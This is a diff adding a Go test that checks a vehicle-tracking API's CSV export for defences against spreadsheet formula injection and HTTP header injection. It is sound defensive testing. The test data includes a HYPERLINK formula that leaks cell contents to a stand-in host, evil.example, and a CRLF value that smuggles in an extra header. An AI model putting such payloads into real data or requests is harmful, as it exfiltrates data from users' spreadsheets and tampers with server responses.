@@ -1,8 +1,17 @@
 package mapui_test
 
 import (
+	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
+	"io"
+	"mime"
+	"net/http"
+	"net/url"
+	"regexp"
+	"strconv"
+	"strings"
 	"testing"
 	"time"
 
@@ -55,4 +64,81 @@ func abs(x float64) float64 {
 		return -x
 	}
 	return x
+}
+
+// TestCSVExportNeutralisesFormulas: a device that names itself like a formula (with unknown
+// devices accepted, its id is also its vehicle's) cannot run it in the investigator's
+// spreadsheet, and neither it nor a plate in Chinese breaks the file name.
+func TestCSVExportNeutralisesFormulas(t *testing.T) {
+	a := newAPI(t)
+	t0 := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
+	// Vehicle ids go in the URL, so they hold no slash; the device id does.
+	device := `=HYPERLINK("http://evil.example/?leak="&A1,"Open")`
+	vehicles := []string{"蒙A00001", `a"b;c\d` + "\r\nX-Injected: 1", "=1+1", "+SUM(1,1)", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"}
+	var b tracker.Batch
+	for i, v := range vehicles {
+		b.Fixes = append(b.Fixes, tracker.Fix{VehicleID: v, DeviceID: device, Time: t0.Add(time.Duration(i) * time.Second), ReceivedAt: t0,
+			Lat: 43.6, Lon: -0.5, AltitudeM: -12, Valid: true, Flags: []string{"=1+1"}})
+	}
+	if err := a.store.Commit(t.Context(), &b); err != nil {
+		t.Fatal(err)
+	}
+	period := "&from=" + t0.Format(time.RFC3339) + "&to=" + t0.Add(time.Hour).Format(time.RFC3339)
+	for _, v := range vehicles {
+		req, _ := http.NewRequest("GET", a.srv.URL+"/api/v1/vehicles/"+url.PathEscape(v)+"/track?format=csv"+period, nil)
+		req.Header.Set("Authorization", "Bearer "+a.tokens[access.RoleInvestigator])
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		body, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+		if resp.StatusCode != 200 {
+			t.Fatalf("%q: %d %s", v, resp.StatusCode, body)
+		}
+		rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
+		if err != nil || len(rows) != 2 {
+			t.Fatalf("%q: %d rows, %v: %s", v, len(rows), err, body)
+		}
+		row := rows[1]
+		if row[1] != strings.ReplaceAll(spreadsheet(v), "\r\n", "\n") || row[2] != "'"+device || row[12] != "'=1+1" {
+			t.Errorf("%q: vehicle_id %q, device_id %q, flags %q", v, row[1], row[2], row[12])
+		}
+		for i, cell := range row {
+			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) || (cell != "" && cell[0] == '-' && !isNumber(cell)) {
+				t.Errorf("%q: cell %d %q starts a formula", v, i, cell)
+			}
+		}
+		if row[6] != "-0.5" || row[9] != "-12" {
+			t.Errorf("%q: lon %q, altitude %q: numbers must stay numbers", v, row[6], row[9])
+		}
+		if resp.Header.Get("X-Injected") != "" {
+			t.Errorf("%q: header injected", v)
+		}
+		cd := resp.Header.Get("Content-Disposition")
+		if !regexp.MustCompile(`^attachment; filename=[A-Za-z0-9._-]+; filename\*=UTF-8''[A-Za-z0-9._%-]+$`).MatchString(cd) {
+			t.Errorf("%q: Content-Disposition %q", v, cd)
+		}
+		_, params, err := mime.ParseMediaType(cd)
+		if err != nil || !strings.HasSuffix(params["filename"], "_20261101T000000Z_20261101T010000Z.csv") || strings.ContainsAny(params["filename"], "\"/\\;\r\n\t") {
+			t.Errorf("%q: file name %q (%v)", v, params["filename"], err)
+		}
+		if v == "蒙A00001" && !strings.HasPrefix(params["filename"], "蒙A00001_") {
+			t.Errorf("file name %q, want the plate in UTF-8", params["filename"])
+		}
+	}
+}
+
+// spreadsheet is a cell as a spreadsheet must read it: a leading = + - @, tab or line break
+// is preceded by an apostrophe.
+func spreadsheet(s string) string {
+	if strings.ContainsRune("=+-@\t\r\n", rune(s[0])) {
+		return "'" + s
+	}
+	return s
+}
+
+func isNumber(s string) bool {
+	_, err := strconv.ParseFloat(s, 64)
+	return err == nil
 }
